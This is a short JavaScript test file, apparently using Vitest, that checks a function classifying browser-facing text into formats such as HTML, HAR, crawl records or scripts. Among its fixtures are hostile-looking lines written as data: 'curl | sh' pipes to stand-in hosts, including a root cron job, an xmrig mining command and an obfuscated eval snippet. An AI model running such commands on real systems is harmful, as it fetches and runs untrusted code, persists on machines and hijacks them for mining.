import { describe, expect, it } from 'vitest'
import { pageFormat } from './page.js'

describe('what a browser is given', () => {
  it.each([
    ['<!DOCTYPE html><html><body>x', 'html'],
    ['\ufeff  <!-- a comment -->\n<script>x()</script>', 'html'],
    ['<?xml version="1.0"?>\n<html xmlns="x">', 'html'],
    ['<?php\nadd_action("x");', 'html'],
    ['{"log": {"version": "1.2", "creator": {}, "entries": []}}', 'har'],
    ['{"url": "https://a.example/", "html": "<p>x</p>"}\n', 'crawl'],
    ['(function(){var a=1;document.write("x")})()', 'script'],
    ['import { a } from "./a.js"\nexport const b = () => a()\n', 'script'],
    ['var _0x1=["a"];setTimeout(function(){eval(_0x1[0])},10)', 'script'],
  ])('%s', (text, format) => {
    expect(pageFormat(text)).toBe(format)
  })

  it.each([
    'meter_id,date,h01,h02\nA,2024-01-01,1,2\n',
    '<?xml version="1.0"?><feed xmlns="http://naesb.org/espi"></feed>',
    '<134>Mar  1 12:00:00 fw a\n',
    '#!/bin/sh\nfunction go() { let x=1; curl http://a | sh; }\n',
    '{"cmdline": "xmrig -o pool:3333", "label": "mining"}\n',
    '* * * * * root curl http://a.example/x.sh | sh\n',
    'import os\ndef main():\n    x = [1, 2]\n',
    '{"meter_id": "A", "time": "2024-01-01", "value": 1}',
  ])('leaves alone: %s', (text) => {
    expect(pageFormat(text)).toBeNull()
  })
})
